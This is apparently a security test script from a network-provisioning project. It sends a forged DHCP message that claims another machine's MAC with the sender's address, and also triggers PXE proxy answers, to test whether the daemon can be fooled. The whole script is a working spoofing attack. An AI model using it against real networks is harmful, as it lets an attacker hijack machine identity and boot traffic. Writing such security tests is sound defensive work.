// Sends one DHCP message that claims another machine's MAC (chaddr) with the sender's own address
// as ciaddr — what an attacker on the provisioning network does to make Rackhand believe the
// victim now lives at the attacker's address:
//   node --import tsx tests/security/dhcp-claim.ts TYPE MAC CIADDR SERVER [PORT]
// TYPE: inform | request. PXE options are included, so proxy mode answers too.
import dgram from 'node:dgram';
import { encode, chaddrFromMac } from '../../daemon/dhcp/packet.js';
import { MessageType, Opt, Options } from '../../daemon/dhcp/options.js';

const [type, mac, ciaddr, server, port = '67'] = process.argv.slice(2);
const options = new Options()
  .setU8(Opt.MESSAGE_TYPE, type === 'request' ? MessageType.REQUEST : MessageType.INFORM)
  .setString(Opt.VENDOR_CLASS, 'PXEClient:Arch:00000:UNDI:002001')
  .setU16(Opt.CLIENT_ARCH, 0);
options.set(Opt.PARAM_REQUEST, Buffer.from([1, 3, 6, 66, 67]));
const msg = encode({
  op: 1, htype: 1, hlen: 6, hops: 0, xid: 0x5ec0_0001, secs: 0, flags: 0, ciaddr: ciaddr!, yiaddr: '0.0.0.0',
  siaddr: '0.0.0.0', giaddr: '0.0.0.0', chaddr: chaddrFromMac(mac!), sname: '', file: '', options,
});
const sock = dgram.createSocket({ type: 'udp4', reuseAddr: true });
await new Promise<void>((r) => sock.bind(Number(port) === 67 ? 68 : 0, r));
for (let i = 0; i < 3; i++) {
  await new Promise<void>((resolve, reject) => sock.send(msg, Number(port), server!, (err) => (err ? reject(err) : resolve())));
  await new Promise((r) => setTimeout(r, 50));
}
sock.close();
